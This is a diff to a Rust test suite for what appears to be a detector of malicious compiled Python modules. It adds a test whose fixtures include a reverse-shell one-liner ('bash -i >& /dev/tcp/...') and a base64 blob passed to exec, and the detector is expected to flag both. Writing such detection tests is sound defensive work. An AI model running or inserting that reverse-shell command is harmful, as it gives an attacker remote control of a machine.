@@ -27,7 +27,7 @@ fn reads_code_of_every_python() {
         assert_eq!(code.names, ["__import__", "system"], "{version}");
         assert!(code.texts.iter().any(|t| t == "touch marker"), "{version}: {:?}", code.texts);
         let code = read(&harmless).unwrap_or_else(|| panic!("{version}"));
-        assert_eq!(code.names, ["sum"], "{version}");
+        assert!(code.names.starts_with(&["sum".into()]), "{version}: {:?}", code.names);
     }
 }
 
@@ -61,12 +61,27 @@ fn nesting_and_damage_end_quietly() {
     assert!(read(&[&b")\x01".repeat(100_000)[..], b"c"].concat()).is_none());
     for (_, sample, _) in samples() {
         for at in 0..sample.len() {
-            read(&sample[..at]);
+            let _ = read(&sample[..at]);
             for value in [0, b'c', b'r', b'{', 0x7f, 0xff] {
                 let mut damaged = sample.clone();
                 damaged[at] = value;
-                read(&damaged);
+                let _ = read(&damaged);
             }
         }
     }
+}
+
+#[test]
+fn modules_may_do_more_than_functions() {
+    let module = |names: &[&str], texts: &[&str]| Code {
+        name: "<module>".into(),
+        names: names.iter().map(|n| (*n).into()).collect(),
+        texts: texts.iter().map(|t| (*t).into()).collect(),
+        ..Code::default()
+    };
+    assert!(judge::judge_module(&module(&["os", "system", "open", "exec"], &["ls"])).is_none());
+    assert!(judge::judge_module(&module(&["os", "system"], &["bash -i >& /dev/tcp/192.0.2.1/1 0>&1"])).is_some());
+    let packed = "QUJD".repeat(40);
+    assert!(judge::judge_module(&module(&["exec", "b64decode"], &[&packed])).is_some());
+    assert!(judge::judge_module(&module(&["b64decode"], &[&packed])).is_none());
 }
